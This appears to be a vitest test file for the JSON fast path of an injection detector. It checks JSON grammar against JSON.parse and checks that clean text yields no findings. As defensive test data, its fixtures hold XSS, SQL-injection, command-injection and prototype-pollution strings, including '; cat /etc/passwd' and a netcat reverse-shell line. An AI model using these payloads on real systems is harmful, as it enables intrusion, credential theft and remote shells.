import { describe, expect, it } from 'vitest'
import { detect } from '../../src/detect/index.js'
import { PLAIN_TRIGGERS_I } from '../../src/detect/inspect-text.js'
import { cleanJsonText } from '../../src/detect/json-text.js'
import { STARTS_WITH_COMMAND } from '../../src/detect/scan.js'
import { BENIGN } from './helpers.js'

/** A small seeded generator (mulberry32): the same cases on every run. */
function rng(seed: number) {
  let a = seed
  return () => {
    a = (a + 0x6d2b79f5) | 0
    let t = Math.imul(a ^ (a >>> 15), 1 | a)
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296
  }
}

/** What JSON.parse says: the value, or undefined when it throws. */
function parsed(s: string): { v: unknown } | undefined {
  try {
    return { v: JSON.parse(s) }
  } catch {
    return undefined
  }
}

function depthOf(v: unknown): number {
  if (typeof v !== 'object' || v === null) return 0
  let d = 0
  for (const x of Object.values(v)) d = Math.max(d, depthOf(x))
  return d + 1
}

const container = (p: { v: unknown } | undefined) =>
  p !== undefined && typeof p.v === 'object' && p.v !== null

/** A clean answer must be a JSON object or array that JSON.parse reads, within the depth, with no finding. */
function sound(s: string, maxDepth = 64): void {
  if (!cleanJsonText(s, maxDepth)) return
  const p = parsed(s)
  expect(container(p), s).toBe(true)
  expect(depthOf(p!.v), s).toBeLessThanOrEqual(maxDepth)
  expect(detect(p!.v), s).toEqual([])
}

/**
 * An oracle from the parsed value, for texts whose strings hold only letters, digits and ` ,.:`
 * (which the line-rate pass never keeps): the expected answer, or undefined when a string holds
 * anything else (then only soundness is checked).
 */
function oracle(s: string, maxDepth: number): boolean | undefined {
  const p = parsed(s)
  if (!container(p)) return false
  const strings: string[] = []
  const collect = (v: unknown): void => {
    if (typeof v === 'string') strings.push(v)
    else if (typeof v === 'object' && v !== null)
      for (const [k, x] of Object.entries(v)) {
        if (!Array.isArray(v)) strings.push(k)
        collect(x)
      }
  }
  collect(p!.v)
  // JSON.parse keeps the last of duplicate keys: the text may hold strings the value does not.
  if ((s.match(/"/g)?.length ?? 0) !== strings.length * 2) return undefined
  if (strings.some((x) => !/^[A-Za-z0-9 ,.:]*$/.test(x))) return undefined
  if (depthOf(p!.v) > maxDepth || s.includes('\\')) return false
  if (PLAIN_TRIGGERS_I.test(s)) return false
  return !strings.some((x) => x.length >= 5 && x.includes(' ') && STARTS_WITH_COMMAND.test(x))
}

const WORDS = 'hello there are you coming to the standup later we should look at the new dashboard'.split(' ')

/** Valid JSON with plain-word strings, every number form, literals and JSON whitespace anywhere. */
function generate(r: () => number, depth: number): string {
  const sp = () => [' ', '', '', '\n', '\t', '\r\n ', ''][Math.floor(r() * 7)]!
  const word = () => {
    const n = Math.floor(r() * 4)
    return Array.from({ length: n }, () => WORDS[Math.floor(r() * WORDS.length)]).join(' ')
  }
  const num = () =>
    ['0', '-0', '12', '-7', '3.25', '-0.5', '1e3', '2E-4', '6.02e+23', '-1.5E10', '0e0'][
      Math.floor(r() * 11)
    ]!
  const value = (d: number): string => {
    const k = r()
    if (d > 0 && k < 0.25) {
      const n = Math.floor(r() * 4)
      return `[${sp()}${Array.from({ length: n }, () => value(d - 1)).join(`${sp()},${sp()}`)}${sp()}]`
    }
    if (d > 0 && k < 0.5) {
      const n = Math.floor(r() * 4)
      const members = Array.from({ length: n }, (_, j) => `"${word()}${j}"${sp()}:${sp()}${value(d - 1)}`)
      return `{${sp()}${members.join(`${sp()},${sp()}`)}${sp()}}`
    }
    if (k < 0.75) return `"${word()}"`
    if (k < 0.9) return num()
    return ['true', 'false', 'null'][Math.floor(r() * 3)]!
  }
  const top = r() < 0.5 ? `[${value(depth)}]` : `{"m":${value(depth)}}`
  return `${sp()}${top}${sp()}`
}

/** Characters that matter to the grammar, for mutations. */
const NOISE = '{}[],:"\\ \t\n\r\u000b\u000c\u00a0\ufeff0123456789-+.eEtrufalsn/x\u0000\u001f\u2028'

describe('cleanJsonText: the grammar is JSON.parse’s', () => {
  it('refuses every corner case JSON.parse refuses', () => {
    const invalid = [
      '',
      ' ',
      '{',
      '[',
      '}',
      '{]',
      '[}',
      '[[]',
      '[]]',
      '{}}',
      '[1,]',
      '[,1]',
      '[1,,2]',
      '{,}',
      '{"a":1,}',
      '{"a" 1}',
      '{"a":}',
      '{"a"}',
      "{'a':1}",
      '{a:1}',
      '[1 2]',
      '["a" "b"]',
      '[01]',
      '[-]',
      '[-01]',
      '[1.]',
      '[.5]',
      '[1e]',
      '[1e+]',
      '[+1]',
      '[0x10]',
      '[NaN]',
      '[Infinity]',
      '[-Infinity]',
      '[tru]',
      '[True]',
      '[nul]',
      '[undefined]',
      '[1]x',
      '[1] [2]',
      '\ufeff[1]',
      '\u000b[1]',
      '[1]\u000c',
      '\u00a0{}',
      '["a\tb"]',
      '["a\nb"]',
      '["a\u0000b"]',
      '["a\u001fb"]',
      '["abc',
      '["a"',
      '{"a":"b}',
      '[1]\u2028',
    ]
    for (const s of invalid) {
      expect(parsed(s) === undefined || !container(parsed(s)), JSON.stringify(s)).toBe(true)
      expect(cleanJsonText(s, 64), JSON.stringify(s)).toBe(false)
    }
  })

  it('accepts valid JSON with plain strings, every number form and JSON whitespace', () => {
    const valid = [
      '{}',
      '[]',
      ' \t\n\r[ ] \n',
      '{"a":1}',
      '{ "a" : [ 1 ,-0 , 0.5 , 1e3 , 2E-4 , 6.02e+23 , true , false , null ] }',
      '[[],{},[{}],{"b":[]}]',
      '{"":""}',
      '["hello there","are you coming"]',
      '{"type":"chat","room":"general","text":"see you at the standup"}',
      '{"a":{"a":"dup"},"a":"dup"}',
      '[123456789012345678901234567890, 1e400,-1e-400]',
    ]
    for (const s of valid) {
      expect(container(parsed(s)), s).toBe(true)
      expect(cleanJsonText(s, 64), s).toBe(true)
    }
  })

  it('top-level scalars and non-JSON text are never clean', () => {
    for (const s of ['"hello"', '1', 'true', 'null', 'hello there', '42["chat",{"text":"hi"}]'])
      expect(cleanJsonText(s, 64), s).toBe(false)
  })

  it('on generated valid JSON: clean exactly as the oracle says', () => {
    const r = rng(9)
    let clean = 0
    for (let i = 0; i < 3000; i++) {
      const s = generate(r, 4)
      expect(container(parsed(s)), s).toBe(true)
      const expected = oracle(s, 64)
      expect(expected, s).not.toBe(undefined)
      expect(cleanJsonText(s, 64), s).toBe(expected)
      if (expected) clean++
    }
    expect(clean).toBeGreaterThan(1500)
  })

  it('on mutated JSON (a character deleted, inserted or replaced): clean only when JSON.parse reads it', () => {
    const r = rng(17)
    let cases = 0
    let valid = 0
    let clean = 0
    for (let i = 0; i < 2000; i++) {
      const base = generate(r, 3)
      for (let k = 0; k < 6; k++) {
        const at = Math.floor(r() * (base.length + 1))
        const ch = NOISE[Math.floor(r() * NOISE.length)]!
        const op = Math.floor(r() * 3)
        const s = base.slice(0, at) + (op === 0 ? '' : ch) + base.slice(op === 1 ? at : at + 1)
        cases++
        const got = cleanJsonText(s, 64)
        if (got) clean++
        if (container(parsed(s))) valid++
        if (got) expect(container(parsed(s)), JSON.stringify(s)).toBe(true)
        const expected = oracle(s, 64)
        if (expected !== undefined) expect(got, JSON.stringify(s)).toBe(expected)
      }
    }
    expect(cases).toBe(12000)
    expect(valid).toBeGreaterThan(4000)
    expect(clean).toBeGreaterThan(2000)
  })
})

describe('cleanJsonText: what it leaves to the parse and the walk', () => {
  it('a string with an escape (the raw text is not the string)', () => {
    for (const s of [
      '{"a":"x\\"y"}',
      '{"a":"\\u003cscript\\u003e"}',
      '["line\\nbreak"]',
      '{"a\\u0062":1}',
      '["\\\\"]',
    ])
      expect(cleanJsonText(s, 64), s).toBe(false)
    expect(cleanJsonText('{"a":"x/y"}', 64)).toBe(true)
  })

  it('a control character or a backslash anywhere in a long string (past the short loop)', () => {
    const words = 'hello there are you coming to the standup later '
    const contexts = [words, `see https://example.org/docs/a ${words}`, `it's 5 o'clock & done ${words}`]
    for (const text of contexts)
      for (let c = 0; c < 32; c++)
        for (const at of [0, 5, 16, 17, 30, text.length - 1, text.length]) {
          const str = text.slice(0, at) + String.fromCharCode(c) + text.slice(at)
          for (const s of [`{"a":"${str}"}`, `{"${str}":1}`, `["${str}",1]`]) {
            expect(parsed(s), JSON.stringify(s)).toBe(undefined)
            expect(cleanJsonText(s, 64), JSON.stringify(s)).toBe(false)
          }
          for (const esc of ['\\"', '\\n', '\\\\', '\\u0041', '\\/']) {
            const e = `{"a":"${text.slice(0, at)}${esc}${text.slice(at)}"}`
            expect(cleanJsonText(e, 64), e).toBe(false)
          }
        }
    expect(cleanJsonText(`{"a":"${words}"}`, 64)).toBe(true)
    // a tab between tokens is JSON whitespace
    expect(cleanJsonText(`{\t"a":\t"${words}"\t}`, 64)).toBe(true)
  })

  it('nesting deeper than maxDepth (the depth refusal stays the decoder’s)', () => {
    const nest = (n: number) => `${'['.repeat(n)}${']'.repeat(n)}`
    expect(cleanJsonText(nest(32), 32)).toBe(true)
    expect(cleanJsonText(nest(33), 32)).toBe(false)
    expect(cleanJsonText(`{"a":${nest(31)}}`, 32)).toBe(true)
    expect(cleanJsonText(`{"a":${nest(32)}}`, 32)).toBe(false)
    expect(cleanJsonText(nest(1), 1)).toBe(true)
    expect(cleanJsonText('[[]]', 1)).toBe(false)
    // past the deepest level it follows, whatever maxDepth says
    expect(cleanJsonText(nest(255), 1000)).toBe(true)
    expect(cleanJsonText(nest(256), 1000)).toBe(false)
    expect(cleanJsonText(nest(100000), 32)).toBe(false)
  })

  it('keys that a prototype-pollution rule reads, and any key holding "proto"', () => {
    for (const s of [
      '{"__proto__":{"admin":true}}',
      '{"constructor":{"prototype":{"admin":true}}}',
      '{"a.__proto__.admin":1}',
      '{"constructor.prototype.admin":1}',
      '[{"x":{"protocol":1}}]',
    ])
      expect(cleanJsonText(s, 64), s).toBe(false)
    // a value may say it
    expect(cleanJsonText('{"text":"the prototype is ready"}', 64)).toBe(true)
    expect(cleanJsonText('{"constructor":"x","text":"fine"}', 64)).toBe(true)
  })

  it('a string value that starts like embedded JSON (the walk parses it)', () => {
    for (const s of ['{"a":"{}"}', '["[1]"]', '{"a":"  {\\"b\\":1}"}', '{"a":"  [x"}', '{"a":" \u00a0[1]"}'])
      expect(cleanJsonText(s, 64), s).toBe(false)
    // markdown link text and a type in braces can be dismissed by the pass; at the start of a
    // value the walk would try them as JSON
    for (const s of ['{"a":"[the docs][] say so"}', '["{string} is a type"]', '{"a":"  [RFC 4055][]"}'])
      expect(cleanJsonText(s, 64), s).toBe(false)
    expect(cleanJsonText('{"{":"x"}', 64)).toBe(false) // a brace is a trigger anyway
    expect(cleanJsonText('{"a":"  x"}', 64)).toBe(true)
  })

  it('a keyword trigger anywhere in the text, or a string that starts with a command', () => {
    for (const s of [
      '{"q":"the union of both"}',
      '{"q":"please select one"}',
      '{"q":"x or 1"}',
      '{"q":"ls -la"}',
      '{"order by":1}',
      '{"a": -1}',
      '{"q":"ping localhost"}',
      '{"q":"  sleep 5"}',
    ])
      expect(cleanJsonText(s, 64), s).toBe(false)
    expect(cleanJsonText('{"q":"ping"}', 64)).toBe(true) // no space: cannot be a command line
  })

  it('the keyword triggers, read once over the whole text, match wherever they match one string', () => {
    // json-text.ts relies on this: a string's own edges and the quotes around it in the text read
    // alike to the regex (no anchor, no lookaround that a quote would turn around)
    const strings = [
      ...BENIGN,
      '--',
      '-- x',
      'x --',
      'a--',
      '--b',
      ' -a',
      '-a',
      'sleep',
      'pg_sleep(5)',
      'exec',
      'execute',
      'or 1',
      'and true',
      'union',
      'SELECT',
      'order by',
      'group  by',
      'x or 1',
    ]
    for (const x of strings) {
      if (!PLAIN_TRIGGERS_I.test(x)) continue
      for (const s of [`{"a":"${x}"}`, `["${x}"]`, `{"${x}":1}`, `[1,"${x}",2]`])
        expect(PLAIN_TRIGGERS_I.test(s), s).toBe(true)
    }
  })

  it('a trigger that the line-rate pass does not dismiss', () => {
    for (const s of [
      '{"a":"<svg onload=alert(1)>"}',
      '{"a":"x; rm y"}',
      '{"<b>":1}',
      '{"a":"%3Cscript"}',
      '{"a":"1\' or"}',
    ])
      expect(cleanJsonText(s, 64), s).toBe(false)
    // dismissed locally: contractions, a heart, Tom & Jerry, #4
    expect(cleanJsonText(`{"a":"it's Tom & Jerry #4 <3"}`, 64)).toBe(true)
  })
})

describe('cleanJsonText: sound — clean means detect() finds nothing', () => {
  const HOSTILE = [
    '<script>alert(1)</script>',
    '<svg onload=alert(1)>',
    'javascript:alert(1)',
    "1' OR '1'='1",
    '1 OR 1=1',
    '1 union select password from users',
    "admin'--",
    '; cat /etc/passwd',
    '$(whoami)',
    '`id`',
    '| nc -e /bin/sh 10.0.0.1 4444',
    'sleep 5',
    '1; waitfor delay 0:0:5',
    '{{constructor.constructor("alert(1)")()}}',
    '__proto__',
    'constructor.prototype.polluted',
  ]
  it('on benign and hostile lines as values, keys, array items and nested', () => {
    let clean = 0
    for (const line of [...BENIGN, ...HOSTILE]) {
      for (const s of [
        JSON.stringify({ type: 'chat', text: line }),
        JSON.stringify({ [line]: 1 }),
        JSON.stringify([line, { a: [line] }]),
        `{"text":"${line}"}`,
        `[ "${line}" ]`,
      ]) {
        sound(s)
        if (cleanJsonText(s, 64)) clean++
      }
    }
    expect(clean).toBeGreaterThan(50)
  })

  it('on generated JSON', () => {
    const r = rng(3)
    for (let i = 0; i < 500; i++) sound(generate(r, 5))
  })
})

describe('the detector answers a clean JSON text without a parse', () => {
  it('first() and all() on a raw text give what they give on its parsed value', () => {
    const r = rng(5)
    const lines = [...BENIGN, 'hello there', '<svg onload=alert(1)>', "1' OR '1'='1", '; cat /etc/passwd']
    for (let i = 0; i < 400; i++) {
      const a = lines[Math.floor(r() * lines.length)]!
      const b = lines[Math.floor(r() * lines.length)]!
      const s = JSON.stringify({ type: 'chat', text: a, [b]: [a, { b }] })
      expect(detect(s), s).toEqual(detect(JSON.parse(s)))
    }
  })
})
